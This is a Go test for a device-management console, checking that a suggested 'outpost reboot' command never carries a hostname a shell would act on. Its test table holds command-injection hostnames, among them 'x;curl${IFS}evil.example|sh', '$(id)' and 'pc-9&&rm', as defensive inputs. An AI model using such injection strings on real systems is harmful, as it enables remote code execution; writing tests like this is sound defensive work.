package console

import (
	"html"
	"regexp"
	"testing"
	"time"

	"github.com/outposthq/outpost/coordinator/internal/store"
)

var rebootHint = regexp.MustCompile(`<code>(outpost reboot [^<]*)</code>`)

// The agent page suggests a command to reboot a host that waits for it.
// The hostname is the host's own say, any printable ASCII without
// spaces: one that a shell would act on (;, $, |, quotes, a leading dash
// that reads as a flag) is not put in a command an admin copies into a
// terminal; the member id, which the coordinator made, is.
func TestRebootHintCarriesNoShellFromAHostname(t *testing.T) {
	e := newEnv(t)
	e.apiDo("POST", "/v1/offices", map[string]any{"name": "hq"}, nil)
	for _, tc := range []struct{ id, hostname, want string }{
		{"ag-00000000000000a1", "pc-17.corp.example", "outpost reboot pc-17.corp.example"},
		{"ag-00000000000000a2", "x;curl${IFS}evil.example|sh", "outpost reboot ag-00000000000000a2"},
		{"ag-00000000000000a3", "$(id)", "outpost reboot ag-00000000000000a3"},
		{"ag-00000000000000a4", "pc'17", "outpost reboot ag-00000000000000a4"},
		{"ag-00000000000000a5", "--now", "outpost reboot ag-00000000000000a5"},
		{"ag-00000000000000a6", "pc-9&&rm", "outpost reboot ag-00000000000000a6"},
	} {
		e.enrolAgent("hq", tc.id, tc.hostname)
		if _, err := e.st.UpdateMember(tc.id, func(m *store.Member) {
			m.Report = &store.Report{Revision: 1, At: time.Now(), RebootItems: []string{"patch/OUT-3"}, RebootSince: time.Now()}
		}); err != nil {
			t.Fatal(err)
		}
		_, body := e.signIn("", adminToken).get("/ui/agents/" + tc.id)
		m := rebootHint.FindStringSubmatch(body)
		if m == nil {
			t.Fatalf("%q: no reboot hint:\n%s", tc.hostname, body)
		}
		if got := html.UnescapeString(m[1]); got != tc.want {
			t.Errorf("hostname %q: the page suggests %q, want %q", tc.hostname, got, tc.want)
		}
	}
}
